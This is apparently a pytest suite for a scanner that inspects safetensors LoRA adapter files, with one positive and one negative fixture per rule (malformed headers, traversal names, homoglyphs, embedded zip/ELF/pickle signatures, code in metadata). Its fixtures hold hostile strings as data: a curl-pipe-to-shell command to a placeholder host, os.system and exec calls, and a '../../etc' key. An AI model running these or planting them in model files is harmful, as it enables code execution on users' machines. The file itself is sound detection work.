"""One positive and one negative generated fixture per AS2xx rule."""

from __future__ import annotations

import struct
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from adapterscan.rules.model import ParamValue
from adapterscan.static.limits import StaticLimits
from adapterscan.static.safetensors import signatures
from tests.factories import lora_tensors, safetensors_bytes
from tests.static.factories_safetensors import (
    compact,
    entry,
    framed,
    safetensors_ruleset,
    scan_bytes,
)

F32x4 = np.arange(4, dtype=np.float32).tobytes()


def good(**tensors: Any) -> bytes:
    return safetensors_bytes(tensors or lora_tensors(), metadata={"format": "pt"})


def one(h: dict[str, Any], data: bytes = F32x4) -> bytes:
    return framed(compact(h), data)


def w(**extra: Any) -> dict[str, Any]:
    return {"w": entry("F32", [4], 0, 16, **extra)}


@dataclass(frozen=True)
class Case:
    positive: Callable[[], bytes]
    negative: Callable[[], bytes]
    limits: StaticLimits = field(default_factory=lambda: StaticLimits(chunk_bytes=4096))
    evidence: dict[str, Any] = field(default_factory=dict)
    params: dict[str, dict[str, ParamValue]] = field(default_factory=dict)


def _zip_in_middle() -> bytes:
    data = bytearray(np.full(64, 0.01, np.float32).tobytes())
    data[100:108] = b"PK\x03\x04\x14\x00\x00\x00"
    return one({"w": entry("F32", [64], 0, 256)}, bytes(data))


CASES: dict[str, Case] = {
    "AS201": Case(lambda: b"\x10\x00\x00", good, evidence={"file_size": 3}),
    "AS202": Case(lambda: framed(b"{}", header_len=100_000_001), good,
                  evidence={"limit": 100_000_000, "limit_kind": "reference"}),
    "AS203": Case(lambda: framed(b"{}" + b" " * 6, header_len=4096), good,
                  evidence={"header_len": 4096}),
    "AS204": Case(lambda: framed(b'{"\xff":1}   '), good, evidence={"offset": 10}),
    "AS205": Case(lambda: framed(b'{"w": {"dtype": "F32", "shape": [NaN]'), good),
    "AS206": Case(lambda: framed(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},'
                                 b'"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}',
                                 F32x4), good, evidence={"key": "w", "occurrences": 2}),
    "AS207": Case(lambda: framed(b"[1, 2, 3]"), good, evidence={"found": "array"}),
    "AS208": Case(lambda: one(w(payload="x")), good, evidence={"fields": ["payload"]}),
    "AS209": Case(lambda: one({"__metadata__": {"cfg": {"a": 1}}, **w()}), good,
                  evidence={"key": "cfg", "found": "object"}),
    "AS210": Case(lambda: one({"w": entry("PICKLE", [4], 0, 16)}), good,
                  evidence={"dtype": "PICKLE"}),
    "AS211": Case(lambda: one({"w": entry("F32", [4, True], 0, 16)}), good,
                  evidence={"reason": "boolean dimension"}),
    "AS212": Case(lambda: one({"w": entry("F32", [4], 16, 0)}), good),
    "AS213": Case(lambda: one({"a": entry("F32", [2], 0, 8), "b": entry("F32", [1], 12, 16)}),
                  good, evidence={"kind": "gap", "begin": 12, "expected_begin": 8, "bytes": 4}),
    "AS214": Case(lambda: one({"w": entry("F32", [8], 0, 32)}), good,
                  evidence={"end": 32, "data_len": 16}),
    "AS215": Case(lambda: one({"w": entry("F32", [3], 0, 16)}), good,
                  evidence={"expected_bytes": 12, "span_bytes": 16}),
    "AS216": Case(lambda: one(w(), F32x4 + b"PK\x03\x04" + b"\0" * 60), good,
                  evidence={"trailing_bytes": 64, "trailer_magic": "zip"}),
    "AS217": Case(lambda: one({"a": entry("F32", [2], 8, 16), "b": entry("F32", [2], 0, 8)}),
                  good),
    "AS218": Case(lambda: framed(compact(w(), pad=False) + b" " * 40, F32x4), good,
                  evidence={"trailing_whitespace": 40}),
    "AS219": Case(lambda: framed(b'{"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}}',
                                 F32x4), good),
    "AS220": Case(lambda: one({"../../etc/w": entry("F32", [4], 0, 16)}), good,
                  evidence={"found": ["/", ".."]}),
    "AS221": Case(lambda: one({"lora_A\u202e.weight": entry("F32", [4], 0, 16)}), good,
                  evidence={"code_points": ["U+202E"]}),
    "AS222": Case(lambda: one({"l\u043era_A.weight": entry("F32", [4], 0, 16)}), good,
                  evidence={"code_points": ["U+043E CYRILLIC SMALL LETTER O"]}),
    "AS223": Case(lambda: one({"w" * 2000: entry("F32", [4], 0, 16)}), good,
                  evidence={"length": 2000, "max_bytes": 1024}),
    "AS224": Case(lambda: one({"__metadata__": {"notes": "lorem ipsum " * 6000}, **w()}), good,
                  evidence={"bytes": 72005}),
    "AS225": Case(lambda: one({"__metadata__": {"blob": "\x00\x01\x02abc"}, **w()}), good,
                  evidence={"key": "blob", "non_printable": 3}),
    "AS226": Case(lambda: one({"__metadata__": {"init": "__import__('os').system('id')"},
                               **w()}), good, evidence={"key": "init", "kind": "code"}),
    "AS227": Case(lambda: framed(compact({"__metadata__": {"format": "pt"}})), good,
                  evidence={"tensors": 0}),
    "AS228": Case(lambda: one({f"t{i}": entry("U8", [4], 4 * i, 4 * i + 4) for i in range(4)}),
                  lambda: one({f"t{i}": entry("F32", [1], 4 * i, 4 * i + 4) for i in range(3)},
                              np.zeros(3, np.float32).tobytes()),
                  limits=StaticLimits(max_tensors=3, chunk_bytes=4096),
                  evidence={"tensors": 4, "limit": 3}),
    "AS229": Case(lambda: one({"__metadata__": {"format": "pt" * 50}, **w()}),
                  lambda: one(w()), limits=StaticLimits(max_header_bytes=128, chunk_bytes=4096),
                  evidence={"cap": 128, "limit_kind": "scanner_cap"}),
    "AS230": Case(lambda: good(w=np.array([1, np.nan, np.inf, -np.inf], np.float16)), good,
                  evidence={"nan": 1, "inf": 2, "elements": 4, "first_index": 1}),
    "AS231": Case(lambda: good(w=np.zeros(8, np.uint8)), good,
                  evidence={"dtype": "U8", "bytes": 8}),
    "AS232": Case(lambda: good(w=np.frombuffer(b"\x80\x04\x95" + b"\0" * 13, np.uint8)), good,
                  evidence={"magic": "pickle"}),
    "AS233": Case(_zip_in_middle, good, evidence={"magic": "zip", "offset_in_tensor": 100}),
}


def test_every_safetensors_rule_has_a_case() -> None:
    ids = {r.id for r in safetensors_ruleset().rules}
    assert ids == set(CASES)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_positive(rule_id: str, tmp_path: Path) -> None:
    case = CASES[rule_id]
    scan = scan_bytes(tmp_path, case.positive(), limits=case.limits, params=case.params)
    hits = scan.of(rule_id)
    assert hits, f"{rule_id} not raised; got {sorted(scan.ids())}"
    finding = hits[0]
    assert finding.location.file == "adapter_model.safetensors"
    assert finding.evidence
    for key, value in case.evidence.items():
        assert finding.evidence.get(key) == value, (key, finding.evidence)


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_negative(rule_id: str, tmp_path: Path) -> None:
    case = CASES[rule_id]
    scan = scan_bytes(tmp_path, case.negative(), limits=case.limits, params=case.params)
    assert rule_id not in scan.ids()
    assert scan.header is not None
    assert not scan.skipped


def test_structural_failures_return_no_header(tmp_path: Path) -> None:
    for rule_id in ("AS201", "AS202", "AS203", "AS204", "AS205", "AS206", "AS207", "AS209",
                    "AS210", "AS211", "AS212", "AS213", "AS214", "AS215", "AS216", "AS228",
                    "AS229"):
        case = CASES[rule_id]
        scan = scan_bytes(tmp_path, case.positive(), limits=case.limits)
        assert scan.header is None, rule_id


def test_scanner_cap_and_tensor_limit_make_the_scan_incomplete(tmp_path: Path) -> None:
    for rule_id in ("AS228", "AS229"):
        case = CASES[rule_id]
        assert scan_bytes(tmp_path, case.positive(), limits=case.limits).skipped, rule_id


def test_other_bad_shapes_and_offsets(tmp_path: Path) -> None:
    for shape, reason in (([4, -1], "negative dimension"), ([2.0, 2], "non-integer dimension"),
                          (["4"], "string dimension"), ([2**64], "dimension over 2^64-1")):
        scan = scan_bytes(tmp_path, one({"w": entry("F32", shape, 0, 16)}))
        assert scan.of("AS211")[0].evidence["reason"] == reason
    scan = scan_bytes(tmp_path, one({"w": entry("F32", [2**32, 2**32, 2**8], 0, 16)}))
    assert scan.of("AS211")[0].evidence["reason"] == "element count overflow"
    for offsets in ([0], [0, 16, 32], [-1, 15], [0, "16"], [0, 2**64]):
        h = {"w": {"dtype": "F32", "shape": [4], "data_offsets": offsets}}
        assert "AS212" in scan_bytes(tmp_path, one(h)).ids(), offsets


def test_overlap_and_not_starting_at_zero(tmp_path: Path) -> None:
    scan = scan_bytes(tmp_path, one({"a": entry("F32", [4], 0, 16), "b": entry("F32", [2], 8, 16)}))
    assert scan.of("AS213")[0].evidence["kind"] == "overlap"
    scan = scan_bytes(tmp_path, one({"a": entry("F32", [2], 8, 16)}))
    assert scan.of("AS213")[0].evidence["kind"] == "not_starting_at_zero"


def test_subbyte_dtype_must_fill_whole_bytes(tmp_path: Path) -> None:
    scan = scan_bytes(tmp_path, one({"w": entry("F4", [3], 0, 2)}, b"\0\0"))
    assert scan.of("AS215")[0].evidence["reason"] == "not a whole number of bytes"
    assert scan_bytes(tmp_path, one({"w": entry("F4", [4], 0, 2)}, b"\0\0")).header is not None


def test_nested_duplicate_and_lone_surrogate(tmp_path: Path) -> None:
    nested = b'{"__metadata__":{"a":"1","a":"2"},"w":{"dtype":"F32","shape":[4],' \
             b'"data_offsets":[0,16]}}'
    assert scan_bytes(tmp_path, framed(nested, F32x4)).of("AS206")[0].evidence["key"] == "a"
    lone = b'{"w\\ud800":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}'
    assert "AS205" in scan_bytes(tmp_path, framed(lone, F32x4)).ids()


def test_code_like_and_base64_metadata(tmp_path: Path) -> None:
    for value in ("curl -s http://x.example/i | sh", "exec(open('x').read())",
                  "<script>alert(1)</script>", "A" * 300):
        scan = scan_bytes(tmp_path, one({"__metadata__": {"k": value}, **w()}))
        assert "AS226" in scan.ids(), value
    for benign in ("pt", "base model: meta-llama/Llama-3.1-8B; evaluated with lm-eval"):
        scan = scan_bytes(tmp_path, one({"__metadata__": {"k": benign}, **w()}))
        assert "AS226" not in scan.ids()


def test_trailer_without_read_access_still_reported() -> None:
    from adapterscan.emit import Emitter
    from adapterscan.static.safetensors.header import parse_header_bytes

    data = one(w(), F32x4 + b"junk")
    emit = Emitter(safetensors_ruleset())
    assert parse_header_bytes(data[:8 + len(compact(w()))], len(data), "f", emit,
                              StaticLimits()) is None
    (finding,) = [f for f in emit.findings if f.rule_id == "AS216"]
    assert finding.evidence["trailing_bytes"] == 4


@pytest.fixture(params=["numpy", "hyperscan"])
def engine(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> str:
    """The AS233 search engine under test (Hyperscan where its wheel is installed)."""
    if request.param == "hyperscan":
        pytest.importorskip("hyperscan")
    monkeypatch.setattr(signatures, "HYPERSCAN", request.param == "hyperscan")
    return str(request.param)


def test_search_anywhere_can_be_turned_off(tmp_path: Path) -> None:
    scan = scan_bytes(tmp_path, _zip_in_middle(),
                      params={"AS233": {"search_anywhere": False}})
    assert "AS233" not in scan.ids()


def test_magic_split_across_chunks_is_found(tmp_path: Path, engine: str) -> None:
    data = bytearray(np.full(4096, 0.01, np.float32).tobytes())
    data[4094:4102] = b"PK\x03\x04\x14\x00\x00\x00"  # straddles the 4096-byte chunk boundary
    scan = scan_bytes(tmp_path, one({"w": entry("F32", [4096], 0, 16384)}, bytes(data)))
    assert [f.evidence["offset_in_tensor"] for f in scan.of("AS233")] == [4094]


def test_nonfinite_counts_across_chunks_and_dtypes(tmp_path: Path) -> None:
    for dtype in (np.float16, np.float32, np.float64):
        arr = np.full(10_000, 0.5, dtype)
        arr[[3, 5000, 9999]] = np.nan
        arr[7000] = -np.inf
        (f,) = scan_bytes(tmp_path, good(w=arr)).of("AS230")
        assert (f.evidence["nan"], f.evidence["inf"], f.evidence["first_index"]) == (3, 1, 3)


def test_bf16_nonfinite(tmp_path: Path) -> None:
    bits = np.array([0x3F80, 0x7FC0, 0xFF80, 0x4000], np.uint16)  # 1.0, NaN, -Inf, 2.0
    data = one({"w": entry("BF16", [4], 0, 8)}, bits.tobytes())
    (f,) = scan_bytes(tmp_path, data).of("AS230")
    assert (f.evidence["nan"], f.evidence["inf"]) == (1, 1)


def test_pe_at_tensor_start_needs_pe_header(tmp_path: Path) -> None:
    blob = bytearray(256)
    blob[0:2] = b"MZ"
    blob[0x3C:0x40] = struct.pack("<I", 0x80)
    blob[0x80:0x84] = b"PE\x00\x00"
    scan = scan_bytes(tmp_path, good(w=np.frombuffer(bytes(blob), np.uint8)))
    assert scan.of("AS232")[0].evidence["magic"] == "pe"
    blob[0x80:0x84] = b"XX\x00\x00"
    assert "AS232" not in scan_bytes(tmp_path, good(w=np.frombuffer(bytes(blob), np.uint8))).ids()


@pytest.mark.parametrize("at", [4088, 4092, 4093, 4094, 4095, 4096, 8189, 16376])
def test_embedded_signatures_found_at_every_chunk_position(at: int, tmp_path: Path,
                                                           engine: str) -> None:
    for magic, kind in ((b"PK\x03\x04\x14\x00", "zip"), (b"\x7fELF\x02\x01\x01", "elf")):
        data = bytearray(np.full(4096, 0.01, np.float32).tobytes())
        data[at:at + len(magic)] = magic
        scan = scan_bytes(tmp_path, one({"w": entry("F32", [4096], 0, 16384)}, bytes(data)))
        assert [(f.evidence["magic"], f.evidence["offset_in_tensor"])
                for f in scan.of("AS233")] == [(kind, at)]


def test_embedded_pickle_frame_needs_a_sane_length(tmp_path: Path, engine: str) -> None:
    data = bytearray(np.full(256, 0.01, np.float32).tobytes())
    data[40:52] = b"\x80\x04\x95" + struct.pack("<Q", 64) + b"\x8c"
    scan = scan_bytes(tmp_path, one({"w": entry("F32", [256], 0, 1024)}, bytes(data)))
    assert scan.of("AS233")[0].evidence["magic"] == "pickle"
    data[43:51] = struct.pack("<Q", 2**40)  # a frame longer than the data: chance bytes
    assert "AS233" not in scan_bytes(tmp_path, one({"w": entry("F32", [256], 0, 1024)},
                                                   bytes(data))).ids()


def test_flood_of_signatures_is_bounded_and_incomplete(tmp_path: Path, engine: str) -> None:
    blob = b"PK\x03\x04" * 12_000
    scan = scan_bytes(tmp_path, good(w=np.frombuffer(blob, np.uint8)))
    assert len(scan.of("AS233")) <= 21  # the emitter keeps 20 per rule and file plus a note
    assert any("candidates" in s for s in scan.skipped)
